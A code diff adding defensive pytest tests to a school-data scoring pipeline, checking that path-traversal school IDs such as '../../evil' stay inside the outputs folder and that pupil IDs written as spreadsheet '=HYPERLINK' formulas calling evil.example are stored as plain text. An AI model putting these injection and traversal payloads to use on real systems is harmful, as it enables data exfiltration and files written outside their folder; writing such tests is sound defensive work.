@@ -2,12 +2,25 @@
 
 from __future__ import annotations
 
+import datetime as dt
+import re
+import shutil
 from pathlib import Path
 
+import openpyxl
+import polars as pl
+import pytest
 from typer.testing import CliRunner
 
 from pipelines.cli import app
+from pipelines.features import load_prepared
+from pipelines.score import run_score
+from pipelines.settings import ScoreSettings
+from pipelines.train import TrainReport
+from pipelines.workspace import Workspace, WorkspaceError, inside, school_folder
 from tests.conftest import TINY, write_export
+
+AS_OF = dt.date(2025, 3, 3)
 
 runner = CliRunner()
 
@@ -24,3 +37,84 @@ def test_column_names_with_console_markup_are_printed_as_plain_text(
     assert "[/x]" in result.stderr
     assert "[link=https://evil.example]click[/link]" in result.stderr
     assert "enrolments: read 3 = accepted 3 + quarantined 0 + duplicates 0" in result.stdout
+
+
+def _hostile_copy(ws: Workspace, root: Path) -> Path:
+    """The trained board's workspace with a school id that climbs out of the outputs folder,
+    and pupil ids that a spreadsheet would run as formulas."""
+    shutil.copytree(ws.root, root, ignore=shutil.ignore_patterns(".lock", ".staging"))
+    for path in (root / "canonical").glob("*.parquet"):
+        frame = pl.read_parquet(path)
+        if "school_id" in frame.columns:
+            frame.with_columns(pl.col("school_id").replace({"SCH01": EVIL_SCHOOL})).write_parquet(
+                path
+            )
+    ids = root / "secrets" / "identity_map.parquet"
+    pl.read_parquet(ids).with_columns(
+        pl.format('=HYPERLINK("http://evil.example/?{}","x")', pl.col("student_id")).alias(
+            "student_id"
+        )
+    ).write_parquet(ids)
+    return root
+
+
+EVIL_SCHOOL = "../../evil"
+
+
+def test_hostile_ids_neither_leave_the_outputs_folder_nor_become_formulas(
+    trained_board: tuple[Workspace, TrainReport], tmp_path: Path
+) -> None:
+    ws = Workspace(_hostile_copy(trained_board[0], tmp_path / "deep" / "ws"))
+    [path] = run_score(ws, [AS_OF], ScoreSettings(), load_prepared(ws), say=lambda _: None)
+
+    written = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if "evil" in p.name}
+    assert written == {f"deep/ws/outputs/{AS_OF}/{school_folder(EVIL_SCHOOL)}"}
+    assert school_folder(EVIL_SCHOOL) == "evil-" + school_folder(EVIL_SCHOOL).split("-")[-1]
+    lists = path.parent / school_folder(EVIL_SCHOOL)
+
+    for csv in (path, lists / "risk_list.csv"):
+        ids = [
+            line.split(";")[1] for line in csv.read_text("utf-8").splitlines()[1:] if line.strip()
+        ]
+        assert ids and all(i.startswith("\"'=HYPERLINK(") for i in ids), csv.name
+
+    sheet = openpyxl.load_workbook(lists / "risk_list.xlsx").active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
+    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
+    pupils = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert pupils and all(
+        c.data_type == "s" and str(c.value).startswith("=HYPERLINK(") for c in pupils
+    )
+
+
+@pytest.mark.parametrize(
+    ("school_id", "folder"),
+    [
+        ("SCH01", "SCH01"),
+        ("school_3-b", "school_3-b"),
+        ("..", None),
+        (".", None),
+        ("../../x", None),
+        ("/etc/cron.d", None),
+        ("A/../B", None),
+        ("C:\\x", None),
+        ("a" * 65, None),
+        ("école", None),
+        ("x\x00y", None),
+    ],
+)
+def test_every_school_id_gets_one_plain_folder_name(school_id: str, folder: str | None) -> None:
+    name = school_folder(school_id)
+    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_-]{0,63}", name)
+    if folder is not None:
+        assert name == folder
+    else:
+        assert name != school_id and name.rsplit("-", 1)[1] != ""
+    assert inside(Path("/tmp/outputs"), name) == Path("/tmp/outputs") / name
+
+
+def test_a_name_that_resolves_elsewhere_is_refused(tmp_path: Path) -> None:
+    for name in ("..", "../x", "a/b", "/etc"):
+        with pytest.raises(WorkspaceError, match="refusing to write outside"):
+            inside(tmp_path, name)
